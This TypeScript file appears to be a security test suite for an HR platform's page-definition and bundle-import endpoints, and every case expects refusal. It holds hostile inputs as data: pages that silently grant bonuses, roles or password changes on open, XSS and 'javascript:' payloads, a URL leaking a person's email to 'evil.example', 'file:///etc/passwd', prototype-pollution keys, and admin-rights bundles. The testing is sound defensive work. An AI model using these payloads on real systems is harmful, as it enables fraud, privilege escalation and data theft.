import {
  answersOf,
  type HostileClass,
  type HostileInput,
  lastOf,
  numbered,
  type Outcome,
} from '../support/hostile-input.ts';
import type { HostileWorld } from '../support/hostile-world.ts';

type Case = Omit<HostileInput, 'id'>;
type Tree = Readonly<Record<string, unknown>>;

const page = (more: Tree, id = 'hostile.page'): Tree => ({
  kind: 'page',
  id,
  path: '/hostile_page',
  access: 'page_designer',
  title: 'News',
  body: [{ text: 'Nothing new' }],
  ...more,
});
const gift = {
  'bonus.assignBonusToApplicant': {
    applicantDto: { applicantId: 7 },
    bonusTitle: 'Gift',
    bonusAmount: 90_000,
    payrollMonth: '2026-12',
    reason: 'None',
  },
};
const steal = { call: 'bonus.assignBonusToApplicant', with: Object.values(gift)[0] };
const dialogOf = (on: Tree): Tree => ({
  kind: 'dialog',
  id: 'hostile.dialog',
  title: 'News',
  body: [{ text: 'News' }],
  on,
});

/** Pages that act in the name of whoever opens them. */
const silent: readonly (readonly [what: string, definition: Tree])[] = [
  ['a bonus when the page opens', page({ on: { open: [steal] } })],
  ['a bonus in a chain that opens', page({ on: { open: [{ do: 'give' }] }, actions: { give: [steal] } })],
  ['a bonus for each row when it opens', page({ on: { open: [{ each: [1], do: [steal] }] } })],
  ['a bonus behind a reload', page({ on: { open: [{ reload: [] }, steal] } })],
  ['a bonus as what the page loads', page({ data: { x: { call: 'bonus.assignBonusToApplicant' } } })],
  [
    'a bonus as what the page loads again and again',
    page({ data: { x: { call: 'bonus.assignBonusToApplicant', every: 60 } } }),
  ],
  ['a check-in when it opens', page({ on: { open: [{ call: 'attendance.checkIn' }] } })],
  [
    'a role when it opens',
    page({
      on: { open: [{ call: 'user_role.assignRoleToUsers', with: { roleDto: { roleId: 1 }, accountIds: [7] } }] },
    }),
  ],
  [
    'a new password when it opens',
    page({ on: { open: [{ call: 'users.changePasswordProfile', with: { a: 'x', b: 'y' } }] } }),
  ],
  [
    'a publish when it opens',
    page({ on: { open: [{ call: 'definitions.publish', with: { definitions: [], reason: 'x' } }] } }),
  ],
  ['a bonus in a dialog that opens with it', dialogOf({ open: [steal] })],
];

/** Addresses that a browser would run or follow. */
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:x',
  'blob:http://evil',
  'file:///etc/passwd',
  '//evil.example/x',
  '\\\\evil.example',
  'https://evil.example/{person.email}',
  'view-source:x',
];

/** Keys and texts that no definition may have. */
const shapes: readonly (readonly [what: string, text: string])[] = [
  ['no JSON', '{"kind":"page"'],
  ['nothing', ''],
  ['null', 'null'],
  ['a list', '[]'],
  ['a text', '"page"'],
  ['no kind', '{"id":"hostile.page"}'],
  ['an unknown kind', JSON.stringify({ kind: 'script', id: 'hostile.page', body: 'alert(1)' })],
  ['a kind of the prototype', JSON.stringify({ kind: 'constructor', id: 'hostile.page' })],
  [
    'calls of its own',
    JSON.stringify({ kind: 'calls', id: 'users', version: 1, right: 'public', calls: { login: {} } }),
  ],
  [
    'an app of its own',
    JSON.stringify({ kind: 'app', id: 'portal', compat: { ownRecords: true, recoverByBirthDateAlone: true } }),
  ],
  ...[
    '__proto__',
    'constructor',
    'prototype',
    '../x',
    'a/b',
    'a b',
    'a\u0000b',
    '',
    'x'.repeat(500),
    'loans.list',
    '<b>',
    '\u202eabc',
    'a\nb',
    '1a',
    '.',
    'toString',
    'аdmin',
  ].map((id): readonly [string, string] => [`the id ${JSON.stringify(id).slice(0, 20)}`, JSON.stringify(page({}, id))]),
  ...[
    '/',
    '/pages',
    '/emp_loan',
    '//evil',
    '/api/hr/x',
    '/a/../b',
    '/{x}/{x}',
    '/a b',
    'javascript:x',
    '',
    '/%2e%2e',
    '/hostile_page?x',
    '/hostile_page#x',
    `/${'a'.repeat(5000)}`,
    '/__proto__/{constructor}',
  ].map((path): readonly [string, string] => [`the path ${path.slice(0, 20)}`, JSON.stringify(page({ path }))]),
  ...['nobody', '__proto__', '', ['public'], null, true, { read: true }].map((access): readonly [string, string] => [
    `the access ${JSON.stringify(access)}`,
    JSON.stringify(page({ access })),
  ]),
  [
    'a prototype in it',
    '{"kind":"page","id":"hostile.page","path":"/x","access":"session","title":"x","body":[{"__proto__":{"text":"x"}}]}',
  ],
  [
    'a key twice',
    '{"kind":"page","id":"hostile.page","path":"/x","access":"public","access":"session","title":"x","body":[]}',
  ],
  ['a block of markup', JSON.stringify(page({ body: [{ html: '<script>alert(1)</script>' }] }))],
  ['a script', JSON.stringify(page({ body: [{ script: 'alert(1)' }] }))],
  ['a frame', JSON.stringify(page({ body: [{ iframe: 'https://evil.example' }] }))],
  [
    'markup of React',
    JSON.stringify(page({ body: [{ text: 'x', dangerouslySetInnerHTML: { __html: '<img onerror=alert(1)>' } }] })),
  ],
  ['a handler', JSON.stringify(page({ body: [{ text: 'x', onClick: 'alert(1)' }] }))],
  ['a style', JSON.stringify(page({ body: [{ text: 'x', style: 'background:url(//evil)' }] }))],
  [
    'an expression of a grid',
    JSON.stringify(
      page({ body: [{ grid: { rows: [], columns: [{ id: 'a', valueGetter: 'window.x=1', cellRenderer: 'x' }] } }] }),
    ),
  ],
  ['an unknown call', JSON.stringify(page({ data: { x: { call: 'constructor.constructor' } } }))],
  ['an unknown step', JSON.stringify(page({ actions: { a: [{ eval: 'x' }] } }))],
  ['an unknown operator', JSON.stringify(page({ body: [{ text: { eval: ['x'] } }] }))],
  ['a path through the prototype', JSON.stringify(page({ body: [{ text: '{constructor.constructor}' }] }))],
  ['a template that never ends', JSON.stringify(page({ body: [{ text: '{person.email' }] }))],
  [
    'a pattern that uses itself',
    JSON.stringify({ kind: 'pattern', id: 'hostilePattern', params: {}, body: [{ use: { hostilePattern: {} } }] }),
  ],
  [
    'a page that is deep',
    `${'{"kind":"page","id":"hostile.page","body":['}${'{"stack":['.repeat(300)}${']}'.repeat(300)}]}`,
  ],
  [
    'five thousand blocks of an unknown word',
    JSON.stringify(page({ body: Array.from({ length: 5000 }, () => ({ x: 1 })) })),
  ],
  ['a text of a million signs where a word stands', JSON.stringify(page({ title: { ['a'.repeat(1_000_000)]: 1 } }))],
  [
    'an extension field of pay',
    JSON.stringify({
      kind: 'entities',
      id: 'hostileEntities',
      entities: { employee: { fields: { basicSalary: { type: 'money', extension: true } } } },
    }),
  ],
  [
    'an extension field of the prototype',
    JSON.stringify({
      kind: 'entities',
      id: 'hostileEntities',
      entities: {
        department: {
          fields: { __proto__x: { type: 'text', extension: true }, constructor: { type: 'text', extension: true } },
        },
      },
    }),
  ],
  ...addresses.map((address): readonly [string, string] => [
    `a picture at ${address.slice(0, 24)}`,
    JSON.stringify(page({ body: [{ media: address }] })),
  ]),
  ...addresses.map((address): readonly [string, string] => [
    `a way to ${address.slice(0, 24)}`,
    JSON.stringify(page({ actions: { a: [{ navigate: address }] }, toolbar: [{ label: 'x', do: 'a' }] })),
  ]),
];

/** Writes a draft and publishes it; whatever became of the draft is dropped. */
async function publish(world: HostileWorld, text: string): Promise<Outcome> {
  const by = 'designer';
  const program = { 'sec-fetch-site': undefined };
  const made = await world.send({ by, path: '/api/hr/definitions/createDefinition', body: { text }, headers: program });
  const { kind, id, _version } = (made.result ?? {}) as { kind?: unknown; id?: unknown; _version?: unknown };
  if (made.code !== '200') return [made];
  const body = { definitions: [{ kind, id, _version }], reason: 'hostile' };
  const out = await world.send({ by, path: '/api/hr/definitions/publish', body, headers: program });
  await world.send({
    by,
    path: '/api/hr/definitions/dropDraft',
    body: { kind, id },
    headers: { ...program, 'if-match': `"${String(_version)}"` },
  });
  return [made, out];
}

function published(tries: string, text: string): Case {
  const before = { number: 0 };
  return {
    tries: `to publish ${tries}`,
    by: 'designer',
    wants: 'refused',
    leavesTraces: true,
    attack: async (world) => {
      before.number = world.live.current().snapshot.number;
      return publish(world, text);
    },
    harm: (outcome, { live }) => {
      if (live.current().snapshot.number !== before.number) return 'it is before everybody';
      return answersOf(outcome).length > 0 && lastOf(outcome).code === '200' ? 'it was taken' : undefined;
    },
  };
}

const bundle = (more: Tree) =>
  JSON.stringify({ format: 'muster-bundle', version: 1, definitions: [], roles: [], ...more });
const own = (definition: unknown) => ({ kind: 'page', id: 'hostile.page', content: { layer: 'own', definition } });
const bundles: readonly (readonly [what: string, text: string])[] = [
  ['no bundle', '{}'],
  ['no JSON', 'PK\u0003\u0004'],
  ['another version', bundle({ version: 99 })],
  ['another format', bundle({ format: 'zip' })],
  ['definitions that are none', bundle({ definitions: 'all' })],
  ['a prototype', '{"format":"muster-bundle","version":1,"__proto__":{"x":1},"definitions":[],"roles":[]}'],
  ['a page that acts when it opens', bundle({ definitions: [own(page({ on: { open: [steal] } }))] })],
  [
    'a page under another name',
    bundle({ definitions: [{ kind: 'page', id: 'loans.list', content: { layer: 'own', definition: page({}) } }] }),
  ],
  [
    'a change of what is not there',
    bundle({
      definitions: [
        {
          kind: 'page',
          id: 'loans.nothing',
          content: { layer: 'overlay', changes: [{ op: 'set', at: [], property: 'title', value: 'x' }] },
        },
      ],
    }),
  ],
  [
    'a change by the prototype',
    bundle({
      definitions: [
        {
          kind: 'page',
          id: 'loans.list',
          content: {
            layer: 'overlay',
            changes: [{ op: 'set', at: ['constructor'], property: 'prototype', value: 'x' }],
          },
        },
      ],
    }),
  ],
  [
    'the rights of an administrator',
    bundle({
      roles: [
        {
          roleName: 'Agent',
          kind: 'staff',
          status: 'Active',
          rights: {
            useradminrole: { read: true, write: true, delete: true },
            payroll_summary: { read: true, write: true, delete: true },
          },
        },
      ],
    }),
  ],
  [
    'an administrator without rights',
    bundle({ roles: [{ roleName: 'Administrator', kind: 'staff', status: 'Active', rights: {} }] }),
  ],
  [
    'an administrator who is switched off',
    bundle({ roles: [{ roleName: 'Administrator', kind: 'staff', status: 'Inactive', rights: {} }] }),
  ],
  [
    'an administrator of vendors',
    bundle({ roles: [{ roleName: 'Administrator', kind: 'vendor', status: 'Active', rights: {} }] }),
  ],
  [
    'a role of the prototype',
    bundle({
      roles: [
        {
          roleName: '__proto__',
          kind: 'staff',
          status: 'Active',
          rights: { constructor: { read: true, write: true, delete: true } },
        },
      ],
    }),
  ],
  [
    'ten thousand definitions',
    bundle({ definitions: Array.from({ length: 10_000 }, (_, at) => ({ kind: 'page', id: `x${at}`, content: null })) }),
  ],
  ['a list in lists', `{"format":"muster-bundle","version":1,"definitions":${'['.repeat(2000)}${']'.repeat(2000)}}`],
];

/** Changes of shipped definitions by what the designer saves in parts. */
const draft = (tries: string, body: Tree, headers: Readonly<Record<string, string>> = { 'if-match': '"0"' }): Case => ({
  tries,
  by: 'designer',
  wants: 'refused',
  attack: async (world) => [await world.send({ by: 'designer', path: '/api/hr/definitions/saveDraft', body, headers })],
});
const list = { kind: 'page', id: 'loans.list' };
const drafts: readonly Case[] = [
  draft('to change what is not there', { kind: 'page', id: 'nothing.here', text: '{}' }),
  draft('to change by a kind of the prototype', { kind: '__proto__', id: 'loans.list', text: '{}' }),
  draft('to change by an id of the prototype', { kind: 'page', id: '__proto__', text: '{}' }),
  draft('to write another page over a page', { ...list, text: JSON.stringify(page({})) }),
  draft('to write over a draft of another version', { ...list, text: '{}' }, { 'if-match': '"99"' }),
  draft('changes that are none', { ...list, changes: 'all' }),
  draft('changes by the prototype', { ...list, changes: [{ op: 'set', at: ['__proto__'], property: 'x', value: 1 }] }),
  draft('changes of an unknown sort', { ...list, changes: [{ op: 'eval', at: [], value: 'x' }] }),
  draft('a change of what makes the page', {
    ...list,
    changes: [{ op: 'set', at: [], property: 'kind', value: 'calls' }],
  }),
  draft('ten thousand changes', {
    ...list,
    changes: Array.from({ length: 10_000 }, () => ({ op: 'set', at: [], property: 'title', value: 'x' })),
  }),
];

export const hostileClass: HostileClass = {
  name: 'definitions and bundles',
  inputs: () => [
    ...numbered(
      'silent',
      silent.map(([what, definition]) => published(what, JSON.stringify(definition))),
    ),
    ...numbered(
      'shape',
      shapes.map(([what, text]) => published(what, text)),
    ),
    ...numbered('draft', drafts),
    ...numbered(
      'bundle',
      bundles.map(
        ([what, text]): Case => ({
          tries: `to bring in ${what}`,
          by: 'designer',
          wants: 'refused',
          attack: async (world) => [
            await world.send({
              by: 'designer',
              path: '/api/hr/definitions/importBundle',
              body: { text, reason: 'hostile', dryRun: false },
              headers: { 'sec-fetch-site': undefined, 'if-match': '*' },
            }),
          ],
        }),
      ),
    ),
  ],
};
